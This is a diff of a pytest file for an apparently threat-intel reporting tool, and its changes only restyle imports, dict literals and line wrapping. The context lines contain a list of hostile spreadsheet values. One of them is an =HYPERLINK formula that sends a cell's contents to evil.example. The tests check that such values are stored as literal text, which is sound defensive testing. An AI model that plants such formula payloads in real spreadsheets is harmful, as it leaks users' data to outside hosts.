@@ -9,10 +9,19 @@ from pathlib import Path
 import openpyxl
 import pytest
 
-from iocdesk.reports.report import Report
-from iocdesk.reports.xlsx import DETAILS_HEADER, EXCEL_MAX_CHARS, RESULTS_HEADER, RISK_COLOURS, pulsedive_link, safe_text, split_titles, write_workbook
-from iocdesk.indicators.types import IndicatorType
 from iocdesk.indicators.results import Feed, Intel, LookupResult, Risk, RiskFactor, Status, Threat
+from iocdesk.indicators.types import IndicatorType
+from iocdesk.reports.report import Report
+from iocdesk.reports.xlsx import (
+    DETAILS_HEADER,
+    EXCEL_MAX_CHARS,
+    RESULTS_HEADER,
+    RISK_COLOURS,
+    pulsedive_link,
+    safe_text,
+    split_titles,
+    write_workbook,
+)
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -28,20 +37,20 @@ COL = {name: i for i, name in enumerate(RESULTS_HEADER)}
 
 
 def _intel(iid: int | None, risk: Risk | None, **kw) -> Intel:
-    base = dict(
-        iid=iid,
-        risk=risk,
-        threats=[Threat(1, "Emotet", "malware"), Threat(2, "Qakbot")],
-        feeds=[Feed(1, "Feodo Tracker", "malware", "abuse.ch")],
-        riskfactors=[RiskFactor(1, "found in threat feeds", Risk.HIGH), RiskFactor(2, "newly registered")],
-        properties={"dns": {"a": ["93.184.216.34", "93.184.216.35"]}, "http": {"server": ["nginx"]}},
-        country="NL",
-        asn="AS1101",
-        org="SURFnet",
-        added="2024-03-01 10:00:00",
-        seen="2025-01-02 03:04:05",
-        web_url=f"https://pulsedive.com/indicator/?iid={iid}",
-    )
+    base = {
+        "iid": iid,
+        "risk": risk,
+        "threats": [Threat(1, "Emotet", "malware"), Threat(2, "Qakbot")],
+        "feeds": [Feed(1, "Feodo Tracker", "malware", "abuse.ch")],
+        "riskfactors": [RiskFactor(1, "found in threat feeds", Risk.HIGH), RiskFactor(2, "newly registered")],
+        "properties": {"dns": {"a": ["93.184.216.34", "93.184.216.35"]}, "http": {"server": ["nginx"]}},
+        "country": "NL",
+        "asn": "AS1101",
+        "org": "SURFnet",
+        "added": "2024-03-01 10:00:00",
+        "seen": "2025-01-02 03:04:05",
+        "web_url": f"https://pulsedive.com/indicator/?iid={iid}",
+    }
     base.update(kw)
     return Intel(**base)
 
@@ -171,7 +180,9 @@ def test_chart_is_a_native_chart_object(tmp_path):
 
 
 def test_no_chart_when_nothing_has_a_risk(tmp_path):
-    path = write_workbook(_report([LookupResult("x.example", IndicatorType.DOMAIN, Status.NOT_FOUND)]), tmp_path / "a.xlsx")
+    path = write_workbook(
+        _report([LookupResult("x.example", IndicatorType.DOMAIN, Status.NOT_FOUND)]), tmp_path / "a.xlsx"
+    )
     with zipfile.ZipFile(path) as z:
         assert not [n for n in z.namelist() if n.startswith("xl/charts/")]
 
@@ -249,7 +260,7 @@ def test_defang_option(tmp_path):
     assert "hxxps[://]cdn[.]example[.]net/a[.]php" in indicators and "2001[:]db8[:][:]1" in indicators
     assert not any(i == "evil.example.com" for i in indicators)
     assert {r[0] for r in _rows(wb["Details"])[1:]} >= {"evil[.]example[.]com"}
-    assert dict((r[0], r[1]) for r in _rows(wb["Summary"]) if r[0])["Indicators defanged"] == "yes"
+    assert {r[0]: r[1] for r in _rows(wb["Summary"]) if r[0]}["Indicators defanged"] == "yes"
 
 
 def test_details_sheet_flattens_properties(book):
@@ -285,7 +296,7 @@ def test_hostile_values_arrive_as_literal_text(tmp_path):
         for name in ("Indicator", "Risk factors", "Threats", "Feeds", "Org", "Error"):
             cell = row[COL[name]]
             assert cell.value == text and cell.data_type == "s", (name, text, cell.value, cell.data_type)
-    details = [r for r in wb["Details"].iter_rows(min_row=2)]
+    details = list(wb["Details"].iter_rows(min_row=2))
     assert len(details) == len(HOSTILE)
     for row in details:
         assert [c.value for c in row][1:] == [row[0].value] * 3 and all(c.data_type == "s" for c in row)
@@ -390,7 +401,9 @@ def test_links_past_the_per_sheet_cap_are_plain_text(tmp_path, monkeypatch):
     import iocdesk.reports.xlsx as xlsx
 
     monkeypatch.setattr(xlsx, "EXCEL_MAX_LINKS", 2)
-    results = [LookupResult(f"h{i}.example", IndicatorType.DOMAIN, Status.FOUND, _intel(i + 1, Risk.LOW)) for i in range(5)]
+    results = [
+        LookupResult(f"h{i}.example", IndicatorType.DOMAIN, Status.FOUND, _intel(i + 1, Risk.LOW)) for i in range(5)
+    ]
     wb = openpyxl.load_workbook(xlsx.write_workbook(_report(results), tmp_path / "l.xlsx", max_rows=5))
     first = [r[COL["Pulsedive"]] for r in wb["Results"].iter_rows(min_row=2)]
     assert [bool(c.hyperlink) for c in first] == [True, True, False, False]
@@ -404,8 +417,9 @@ def test_export_bench_runs(tmp_path):
     import sys
 
     root = Path(__file__).resolve().parents[2]
-    proc = subprocess.run([sys.executable, "-m", "benchmarks.export_bench", "--sizes", "300", "--formats", "xlsx,csv,json",
-                           "--no-tracemalloc", "--json"], cwd=root, capture_output=True, text=True, timeout=120, check=False)  # fmt: skip
+    command = [sys.executable, "-m", "benchmarks.export_bench", "--sizes", "300", "--formats", "xlsx,csv,json",
+               "--no-tracemalloc", "--json"]  # fmt: skip
+    proc = subprocess.run(command, cwd=root, capture_output=True, text=True, timeout=120, check=False)
     assert proc.returncode == 0, proc.stderr
     data = json.loads(proc.stdout)
     assert [r["format"] for r in data["results"]] == ["xlsx", "csv", "json"]
